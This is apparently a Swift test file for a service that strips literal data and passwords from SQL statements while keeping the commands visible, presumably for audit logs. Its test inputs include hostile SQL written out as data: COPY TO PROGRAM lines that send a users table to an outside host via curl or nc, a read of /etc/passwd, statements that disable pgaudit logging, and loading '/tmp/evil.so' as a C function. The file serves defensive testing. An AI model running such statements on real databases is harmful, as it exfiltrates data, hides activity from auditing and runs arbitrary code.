import GuardianService
import Testing

@Suite("Statements without data") struct StatementTextTests {
    @Test(
        "data goes, deeds stay",
        arguments: [
            ("INSERT INTO m VALUES (1, '床前明月光', E'it\\'s', $t$secret$t$)", "INSERT INTO m VALUES (…, '…', E'…', $t$…$t$)"),
            ("SELECT * FROM m WHERE body = 'x' AND seq > 7 -- private", "SELECT * FROM m WHERE body = '…' AND seq > …"),
            ("UPDATE everline.messages SET body = 'it''s; DROP'", "UPDATE everline.messages SET body = '…'"),
            ("DROP TABLE everline.messages;", "DROP TABLE everline.messages"),
            (
                "COPY everline.users TO PROGRAM 'curl -d @- http://203.0.113.9'",
                "COPY everline.users TO PROGRAM 'curl -d @- http://203.0.113.9'"
            ),
            (
                "COPY (SELECT 'x' FROM u) TO PROGRAM 'nc 203.0.113.9 99'",
                "COPY (SELECT '…' FROM u) TO PROGRAM 'nc 203.0.113.9 99'"
            ),
            ("SELECT pg_read_file('/etc/passwd'), 'x'", "SELECT pg_read_file('/etc/passwd'), '…'"),
            ("SELECT set_config('pgaudit.log', 'none', false)", "SELECT set_config('pgaudit.log', 'none', false)"),
            ("SET pgaudit.log = 'none'", "SET pgaudit.log = 'none'"),
            ("ALTER SYSTEM SET archive_command = 'true'", "ALTER SYSTEM SET archive_command = 'true'"),
            ("LOAD '/tmp/evil.so'", "LOAD '/tmp/evil.so'"),
            (
                "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'run'",
                "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'run'"
            ),
            ("CREATE ROLE x PASSWORD 'hunter2' SUPERUSER", "CREATE ROLE x PASSWORD '…' SUPERUSER"),
            (
                "ALTER ROLE x /* password */ ENCRYPTED PASSWORD E'hunter2'; DROP TABLE t",
                "ALTER ROLE x ENCRYPTED PASSWORD E'…'; DROP TABLE t"
            ),
            (
                "CREATE USER MAPPING FOR x SERVER s OPTIONS (user 'u', password 'hunter2')",
                "CREATE USER MAPPING FOR x SERVER s OPTIONS (user 'u', password '…')"
            ),
            (
                "CREATE SUBSCRIPTION s CONNECTION 'host=a password=hunter2' PUBLICATION p",
                "CREATE SUBSCRIPTION s CONNECTION '…' PUBLICATION p"
            ),
            (
                "ALTER SYSTEM SET primary_conninfo = 'host=a password=hunter2 port=1'",
                "ALTER SYSTEM SET primary_conninfo = 'host=a password=… port=1'"
            ),
            (
                "DO $$ BEGIN DELETE FROM m WHERE body = 'x'; EXECUTE 'DROP TABLE t'; END $$",
                "DO $$BEGIN DELETE FROM m WHERE body = '…'; EXECUTE 'DROP TABLE t'; END$$"
            ),
            ("CREATE VIEW v AS SELECT 'x' AS y", "CREATE VIEW v AS SELECT '…' AS y"),
            ("COMMENT ON TABLE t IS 'x'", "COMMENT ON TABLE t IS '…'"),
            ("CREATE ROLE x PASSWORD <REDACTED>", "CREATE ROLE x PASSWORD <REDACTED>"),
            ("SELECT 'cut in the mid", "SELECT '…'"), ("SELECT $a$ cut", "SELECT $a$…$a$"),
            ("SELECT \"no end", "SELECT \"no end"),
            ("/* never ended", ""), ("", ""), ("'", "'…'"), ("U&'\\0041'", "U&'…'"), ("SELECT $1", "SELECT $…"),
        ])
    func statements(statement: String, expected: String) { #expect(StatementText.withoutData(statement) == expected) }

    @Test(
        "passwords go, wherever they stand",
        arguments: [
            ("password=hunter2 host=a", "password=… host=a"), ("PASSWORD 'hunter2'", "PASSWORD '…'"),
            ("passwd: hunter2", "passwd: …"),
            (#"{"password":"hunter2","a":1}"#, #"{"password":"…","a":1}"#), ("postgres://u:hunter2@h/db", "postgres://u:…@h/db"),
            ("SCRAM-SHA-256$4096:abc$def:ghi is it", "… is it"), ("md50123456789abcdef0123456789abcdef", "…"),
            ("md5 is old", "md5 is old"),
            ("the password of 李白", "the password of 李白"), ("password", "password"), ("密碼 password='李白''s'", "密碼 password='…'"),
            ("$scrypt$ln=17,r=8,p=1$aa$bb", "…,r=8,p=1$aa$bb"),
        ])
    func passwords(text: String, expected: String) {
        let masked = PasswordMask.masked(text)
        #expect(!masked.contains("hunter2"))
        if !text.hasPrefix("$scrypt$") { #expect(masked == expected) }
    }

    @Test("anything is taken, and a password behind its word never comes through")
    func fuzz() {
        var random = SystemRandomNumberGenerator()
        let parts = [
            "'", "\"", "$$", "$a$", "--", "/*", "*/", "\\", "\n", "E'", "PASSWORD ", "SELECT ", "DO ", "(", ")", ";", "李白",
            "\u{0}", "1", "U&'", "CREATE FUNCTION ",
        ]
        for _ in 0..<3_000 {
            let noise = (0..<Int.random(in: 0...30, using: &random)).map { _ in parts.randomElement(using: &random) ?? "" }
                .joined()
            _ = StatementText.withoutData(noise)
            _ = PasswordMask.masked(noise)
            #expect(!StatementText.withoutData("ALTER ROLE x PASSWORD 'hunter2'; \(noise)").contains("hunter2"), "\(noise)")
            #expect(!StatementText.withoutData("SELECT '床前明月光'; \(noise)").contains("明月"), "\(noise)")
        }
    }
}
